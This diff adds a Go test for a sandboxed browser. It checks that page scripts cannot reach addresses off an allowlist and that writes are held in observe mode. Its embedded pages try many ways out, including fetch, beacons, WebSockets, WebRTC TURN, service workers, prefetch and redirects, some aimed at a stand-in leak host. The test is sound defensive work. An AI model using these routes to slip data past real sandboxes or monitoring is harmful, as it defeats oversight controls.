@@ -1,0 +1,320 @@
+package browser
+
+import (
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"testing"
+	"time"
+)
+
+// offList is a TCP and a UDP listener on one loopback address that is not
+// on the allowlist (the page is served from 127.0.0.1): it counts every
+// connection and every datagram that arrives.
+type offList struct {
+	ip   string
+	port int // the same port for TCP and UDP
+	tcp  net.Listener
+	udp  net.PacketConn
+	mu   sync.Mutex
+	seen []string
+}
+
+func listenOffList(t *testing.T, ip string) *offList {
+	t.Helper()
+	for range 20 {
+		ln, err := net.Listen("tcp", ip+":0")
+		if err != nil {
+			t.Fatalf("listen on %s (a loopback address off the allowlist): %v", ip, err)
+		}
+		port := ln.Addr().(*net.TCPAddr).Port
+		pc, err := net.ListenPacket("udp", fmt.Sprintf("%s:%d", ip, port))
+		if err != nil {
+			ln.Close()
+			continue
+		}
+		o := &offList{ip: ip, port: port, tcp: ln, udp: pc}
+		t.Cleanup(func() { ln.Close(); pc.Close() })
+		go func() {
+			for {
+				c, err := ln.Accept()
+				if err != nil {
+					return
+				}
+				o.arrived("tcp from " + c.RemoteAddr().String())
+				c.Close()
+			}
+		}()
+		go func() {
+			buf := make([]byte, 2048)
+			for {
+				n, from, err := pc.ReadFrom(buf)
+				if err != nil {
+					return
+				}
+				o.arrived(fmt.Sprintf("udp %d bytes from %s", n, from))
+			}
+		}()
+		return o
+	}
+	t.Fatalf("no port free for both TCP and UDP on %s", ip)
+	return nil
+}
+
+func (o *offList) arrived(what string) {
+	o.mu.Lock()
+	o.seen = append(o.seen, what)
+	o.mu.Unlock()
+}
+
+// take returns the arrivals so far and forgets them.
+func (o *offList) take() []string {
+	o.mu.Lock()
+	defer o.mu.Unlock()
+	got := o.seen
+	o.seen = nil
+	return got
+}
+
+func (o *offList) hostPort() string { return fmt.Sprintf("%s:%d", o.ip, o.port) }
+
+// platform is the allowlisted site: it serves the test's pages and counts
+// every write that reaches it (any method but GET and HEAD, and every
+// WebSocket handshake), by method and path.
+type platform struct {
+	mu     sync.Mutex
+	writes []string
+	pages  map[string]string // path -> body; .js paths are served as scripts
+}
+
+func (p *platform) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if isWrite(r.Method) || strings.EqualFold(r.Header.Get("Upgrade"), "websocket") {
+		p.mu.Lock()
+		m := r.Method
+		if r.Header.Get("Upgrade") != "" {
+			m = methodWebSocket
+		}
+		p.writes = append(p.writes, m+" "+r.URL.Path)
+		p.mu.Unlock()
+	}
+	body, ok := p.pages[r.URL.Path]
+	if !ok {
+		fmt.Fprint(w, "ok")
+		return
+	}
+	switch {
+	case strings.HasSuffix(r.URL.Path, ".js"):
+		w.Header().Set("Content-Type", "text/javascript")
+		w.Header().Set("Service-Worker-Allowed", "/")
+	case strings.HasSuffix(r.URL.Path, ".json"):
+		w.Header().Set("Content-Type", "application/speculationrules+json")
+	default:
+		w.Header().Set("Content-Type", "text/html; charset=utf-8")
+	}
+	fmt.Fprint(w, body)
+}
+
+func (p *platform) arrived() []string {
+	p.mu.Lock()
+	defer p.mu.Unlock()
+	return append([]string(nil), p.writes...)
+}
+
+// writeLog is a Config.Write that holds every write (observe) or sends at
+// most budget of them (exercise), recording each.
+type writeLog struct {
+	mu       sync.Mutex
+	readOnly atomic.Bool
+	budget   int
+	sent     []string
+	held     []string
+	via      []string
+}
+
+func (l *writeLog) write(w Write) error {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	k := w.Method + " " + w.URL
+	l.via = append(l.via, w.Via+": "+k)
+	switch {
+	case w.Held != "":
+		l.held = append(l.held, k)
+		return heldError(w.Held)
+	case l.readOnly.Load():
+		l.held = append(l.held, k)
+		return heldError("held: the dial is observe")
+	case len(l.sent) >= l.budget:
+		l.held = append(l.held, k)
+		return heldError("held: the run's write budget is spent")
+	}
+	l.sent = append(l.sent, k)
+	return nil
+}
+
+func (l *writeLog) lists() (sent, held []string) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return append([]string(nil), l.sent...), append([]string(nil), l.held...)
+}
+
+// routes are the ways out a page script has, one page each. {OFF} and
+// {OFF3} are host:ports off the allowlist (TCP and UDP listening on both),
+// {OFFIP} the first one's address alone.
+var routes = []struct {
+	name string
+	page string
+	more map[string]string
+	// writes: the page tries writes to the platform (Config.Write must
+	// see at least one).
+	writes bool
+}{
+	{name: "fetch-methods", writes: true, page: `<script>
+for (const m of ['POST','PUT','DELETE','PATCH','OPTIONS','PROPFIND']) fetch('/w/fetch-' + m, {method: m, body: m === 'OPTIONS' || m === 'PROPFIND' ? undefined : 'x'}).catch(()=>{});
+fetch('/w/json', {method: 'POST', headers: {'content-type': 'application/json', 'x-custom': '1'}, body: '{}'}).catch(()=>{});
+fetch('http://{OFF}/w', {method: 'POST', body: 'x', mode: 'no-cors'}).catch(()=>{});
+</script>`},
+	{name: "xhr", writes: true, page: `<script>
+const x = new XMLHttpRequest(); x.open('POST', '/w/xhr'); x.send('x');
+const y = new XMLHttpRequest(); y.open('DELETE', 'http://{OFF}/w'); y.send();
+</script>`},
+	{name: "send-beacon", writes: true, page: `<script>
+navigator.sendBeacon('/w/beacon', 'x'); navigator.sendBeacon('http://{OFF}/beacon', 'x');
+addEventListener('pagehide', () => navigator.sendBeacon('/w/beacon-hide', 'x'));
+</script>`},
+	{name: "keepalive-fetch", writes: true, page: `<script>
+fetch('/w/keepalive', {method: 'POST', body: 'x', keepalive: true}).catch(()=>{});
+</script>`},
+	{name: "form-post", writes: true, page: `<iframe src="/form"></iframe><form id=f method=post action="/w/form-top"><input name=a value=1></form>
+<form id=g method=post action="http://{OFF}/w" target=_blank><input name=a value=1></form>
+<script>setTimeout(() => { document.getElementById('g').submit(); document.getElementById('f').submit(); }, 200);</script>`,
+		more: map[string]string{"/form": `<form method=post action="/w/form-frame"><input name=a value=1></form><script>document.forms[0].submit()</script>`}},
+	{name: "websocket", writes: true, page: `<script>
+for (const u of ['ws://' + location.host + '/w/ws', 'ws://{OFF}/ws', 'wss://{OFF}/ws', 'wss://' + location.host + '/w/wss']) { try { const s = new WebSocket(u); s.onopen = () => s.send('x'); } catch (e) {} }
+</script>`},
+	{name: "webtransport", page: `<script>
+try { const t = new WebTransport('https://{OFF}/wt'); t.ready.catch(()=>{}); t.closed.catch(()=>{}); } catch (e) {}
+try { const t = new WebTransport('https://' + location.hostname + ':{OFFPORT}/wt'); t.ready.catch(()=>{}); t.closed.catch(()=>{}); } catch (e) {}
+</script>`},
+	{name: "webrtc-stun-turn", page: `<script>
+(async () => {
+  try {
+    const pc = new RTCPeerConnection({iceServers: [{urls: 'stun:{OFF}'}, {urls: ['turn:{OFF3}?transport=udp', 'turn:{OFF3}?transport=tcp'], username: 'u', credential: 'p'}]});
+    pc.createDataChannel('x');
+    pc.onicecandidate = e => { if (e.candidate) console.log('candidate', e.candidate.candidate); };
+    await pc.setLocalDescription(await pc.createOffer());
+    const pc2 = new RTCPeerConnection();
+    await pc2.setRemoteDescription({type: 'offer', sdp: pc.localDescription.sdp});
+    await pc2.setLocalDescription(await pc2.createAnswer());
+    await pc.setRemoteDescription(pc2.localDescription);
+    await pc2.addIceCandidate({candidate: 'candidate:1 1 udp 2122260223 {OFFIP} {OFFPORT} typ host', sdpMid: '0', sdpMLineIndex: 0});
+  } catch (e) {}
+})();
+</script>`},
+	{name: "dns-prefetch-preconnect", page: `<link rel=dns-prefetch href="//{OFF}"><link rel=preconnect href="http://{OFF}"><link rel=preconnect href="https://{OFF3}" crossorigin>
+<link rel=dns-prefetch href="//leak.example.test"><link rel=preconnect href="https://leak.example.test">`},
+	{name: "quic", page: `<img src="https://{OFF}/q.png"><script>fetch('https://{OFF3}/q', {mode: 'no-cors'}).catch(()=>{});</script>`},
+	{name: "service-worker", writes: true, page: `<script>
+navigator.serviceWorker && navigator.serviceWorker.register('/sw.js', {scope: '/'}).then(r => {
+  const go = () => fetch('/after-sw').catch(()=>{});
+  if (r.active) go(); else navigator.serviceWorker.addEventListener('controllerchange', go);
+}).catch(()=>{});
+</script>`,
+		more: map[string]string{"/sw.js": `self.addEventListener('install', e => { self.skipWaiting(); fetch('/w/sw-install', {method: 'POST', body: 'x'}).catch(()=>{}); fetch('http://{OFF}/sw').catch(()=>{}); });
+self.addEventListener('activate', e => { e.waitUntil(clients.claim()); fetch('/w/sw-activate', {method: 'DELETE'}).catch(()=>{}); });
+self.addEventListener('fetch', e => { fetch('/w/sw-fetch', {method: 'POST', body: 'x'}).catch(()=>{}); });`}},
+	{name: "workers", writes: true, page: `<script>
+new Worker('/worker.js');
+try { new SharedWorker('/worker.js?shared'); } catch (e) {}
+new Worker(URL.createObjectURL(new Blob(["fetch('/w/blob-worker', {method: 'POST', body: 'x'}).catch(()=>{}); fetch('http://{OFF}/w').catch(()=>{});"])));
+</script>`,
+		more: map[string]string{"/worker.js": `fetch('/w/worker', {method: 'POST', body: 'x'}).catch(()=>{}); fetch('http://{OFF}/worker').catch(()=>{}); try { new WebSocket('ws://{OFF3}/'); } catch (e) {}`}},
+	{name: "prefetch-prerender", page: `<link rel=prefetch href="http://{OFF}/pf"><link rel=prerender href="http://{OFF}/pr"><link rel=preload as=fetch href="http://{OFF3}/pl">
+<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://{OFF}/sr-prefetch"]}],"prerender":[{"source":"list","urls":["/prer","http://{OFF3}/sr-prerender"]}]}</script>
+<a href="http://{OFF}/hover">x</a>`,
+		more: map[string]string{"/prer": `<script>fetch('/w/prerendered', {method: 'POST', body: 'x'}).catch(()=>{}); fetch('http://{OFF}/prer').catch(()=>{});</script>`}},
+	{name: "window-open-navigation", page: `<iframe src="http://{OFF}/frame"></iframe><a id=a href="http://{OFF3}/link" target=_blank>x</a>
+<script>
+try { window.open('http://{OFF}/popup'); } catch (e) {}
+try { window.open('https://{OFF3}/popup', '_blank', 'noopener'); } catch (e) {}
+document.getElementById('a').click();
+setTimeout(() => { location.href = 'http://{OFF}/away'; }, 300);
+</script>`},
+	{name: "redirect-off-list", page: `<img src="/redirect"><script>fetch('/redirect', {method: 'POST', body: 'x'}).catch(()=>{});</script>`},
+}
+
+// fill puts the off-list addresses into a route's text.
+func fill(s string, a, b *offList) string {
+	return strings.NewReplacer("{OFF3}", b.hostPort(), "{OFFIP}", a.ip, "{OFFPORT}", fmt.Sprint(a.port), "{OFF}", a.hostPort()).Replace(s)
+}
+
+// TestOneRouteOut: every way out a page script has (one route per
+// subtest, and all of them on one page) reaches nothing off the allowlist,
+// TCP or UDP, and at observe no write reaches the platform: each is held
+// and recorded with its method and URL.
+func TestOneRouteOut(t *testing.T) {
+	a, c := listenOffList(t, "127.0.0.2"), listenOffList(t, "127.0.0.3")
+	p := &platform{pages: map[string]string{}}
+	var all strings.Builder
+	for _, r := range routes {
+		path := "/" + r.name
+		p.pages[path] = "<!doctype html><html><body>" + fill(r.page, a, c) + "</body></html>"
+		for k, v := range r.more {
+			p.pages[k] = fill(v, a, c)
+		}
+		if r.name != "window-open-navigation" { // it leaves the page
+			all.WriteString(fill(r.page, a, c))
+		}
+	}
+	p.pages["/all"] = "<!doctype html><html><body>" + all.String() + "</body></html>"
+	mux := http.NewServeMux()
+	mux.Handle("/", p)
+	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
+		http.Redirect(w, r, "http://"+a.hostPort()+"/redirected", http.StatusTemporaryRedirect)
+	})
+	s := serve(t, mux)
+	log := &writeLog{}
+	log.readOnly.Store(true)
+	b := newBrowser(t, Config{Allow: allowOnly(s.URL), PageTimeout: 5 * time.Second, Quiet: 300 * time.Millisecond, Write: log.write, ReadOnly: log.readOnly.Load})
+	check := func(t *testing.T, name string, writes bool) {
+		t.Helper()
+		_, heldBefore := log.lists()
+		render(t, b, s.URL+"/"+name)
+		// Absence cannot be polled for: give late traffic (a service
+		// worker, ICE gathering, a keepalive) the time it takes.
+		time.Sleep(700 * time.Millisecond)
+		for _, o := range []*offList{a, c} {
+			if got := o.take(); len(got) > 0 {
+				t.Errorf("%d arrivals at %s, off the allowlist: %v", len(got), o.ip, got)
+			}
+		}
+		if got := p.arrived(); len(got) > 0 {
+			t.Errorf("%d writes reached the platform at observe: %v", len(got), got)
+		}
+		sent, held := log.lists()
+		if len(sent) > 0 {
+			t.Errorf("writes sent at observe: %v", sent)
+		}
+		if writes && len(held) == len(heldBefore) {
+			t.Errorf("the page's writes were not recorded as held")
+		}
+	}
+	for _, r := range routes {
+		t.Run(r.name, func(t *testing.T) { check(t, r.name, r.writes) })
+	}
+	t.Run("all", func(t *testing.T) { check(t, "all", true) })
+	_, held := log.lists()
+	t.Logf("%q", log.via)
+	for _, want := range []string{"POST " + s.URL + "/w/fetch-POST", "DELETE " + s.URL + "/w/fetch-DELETE", "POST " + s.URL + "/w/beacon",
+		"POST " + s.URL + "/w/xhr", "POST " + s.URL + "/w/form-top", "POST " + s.URL + "/w/form-frame", "WEBSOCKET ws" + strings.TrimPrefix(s.URL, "http") + "/w/ws"} {
+		found := false
+		for _, h := range held {
+			found = found || h == want
+		}
+		if !found {
+			t.Errorf("held writes %q lack %q", held, want)
+		}
+	}
+}
